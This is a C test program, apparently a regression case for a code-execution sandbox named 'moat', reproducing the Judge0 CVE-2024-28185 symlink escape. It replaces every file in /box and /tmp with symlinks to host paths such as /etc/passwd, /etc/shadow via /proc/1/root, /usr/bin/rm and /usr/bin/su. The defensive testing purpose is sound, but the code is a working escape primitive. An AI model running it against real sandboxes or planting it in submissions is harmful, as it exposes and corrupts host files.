/* E8 (Judge0 CVE-2024-28185): after running, the program leaves every name
 * in /box, and every name moat might touch after the step (source, binary,
 * stdin, stdout, stderr, run and compile scripts, meta and result files), as
 * a symlink to a host path: /etc/passwd, /usr/bin/rm, the runner's canary
 * (argv[1]), the host root through /proc/1/root, or a relative climb. If the
 * host side opened, wrote, chowned, chmoded or copied any of them after the
 * step, the runner sees a changed host file. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *const extra[] = {
    "stdin",       "stdout",  "stderr",    "input",      "input.txt", "output",    "output.txt",
    "run",         "run.sh",  "compile",   "compile.sh", "meta",      "meta.json", "result",
    "result.json", "main",    "main.c",    "a.out",      "prog",      "solution",  "Main.java",
    "Main.class",  "main.py", "script.sh", ".moat",      "cache",     "box",       "tmp",
};

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 2)
        return 2;
    const char *targets[] = {"/etc/passwd",
                             "/usr/bin/rm",
                             argv[1],
                             "/proc/1/root/etc/shadow",
                             "../../../../../../etc/passwd",
                             "/proc/1/root/usr/bin/su"};
    size_t nt = sizeof(targets) / sizeof(targets[0]);
    char names[256][256];
    size_t n = 0;
    DIR *d = opendir("/box");
    struct dirent *de;
    while (d && (de = readdir(d)) && n < 200)
        if (strcmp(de->d_name, ".") && strcmp(de->d_name, ".."))
            snprintf(names[n++], sizeof(names[0]), "%s", de->d_name);
    closedir(d);
    for (size_t i = 0; i < sizeof(extra) / sizeof(extra[0]) && n < 256; i++)
        snprintf(names[n++], sizeof(names[0]), "%s", extra[i]);
    int planted = 0;
    for (size_t i = 0; i < n; i++) {
        char path[300];
        snprintf(path, sizeof(path), "/box/%s", names[i]);
        unlink(path);
        if (symlink(targets[i % nt], path) == 0)
            planted++;
    }
    /* the same in /tmp, which moat might clean up */
    for (size_t i = 0; i < sizeof(extra) / sizeof(extra[0]); i++) {
        char path[300];
        snprintf(path, sizeof(path), "/tmp/%s", extra[i]);
        if (symlink(targets[i % nt], path) == 0)
            planted++;
    }
    printf("planted %s\n", planted >= (int)(sizeof(extra) / sizeof(extra[0])) * 2 ? "all" : "some");
    return 0;
}
